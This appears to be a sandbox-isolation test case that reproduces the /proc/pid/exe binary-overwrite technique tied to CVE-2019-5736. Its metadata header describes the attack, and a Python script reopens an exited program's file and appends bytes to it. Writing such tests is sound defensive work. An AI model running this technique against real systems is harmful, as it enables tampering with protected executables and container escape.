# /// attack
# guarantee = "filesystem_write"
# summary = "Keeps a running program's file by /proc/pid/exe and writes to it when the program has ended."
# reference = "CVE-2019-5736"
# success = "the program's file has changed"
# stage = ["readonly"]
# observe = ["changed"]
# refusal = { process = "denied EACCES", default = "errno" }
# ///

import os
import subprocess

from kit import attempt, refused_with, succeeded, target

process = subprocess.Popen([target("READONLY") + "/program", "0.2"])
fd = os.open(f"/proc/{process.pid}/exe", os.O_PATH)
process.wait()
path = f"/proc/self/fd/{fd}"
if refused_with(lambda: os.close(os.open("/proc/1/exe", os.O_WRONLY)), "EACCES", "EPERM", "ETXTBSY", "EROFS"):
    again = attempt(lambda: os.open(path, os.O_WRONLY | os.O_APPEND), "EROFS")
    os.write(again, b"changed")
succeeded()
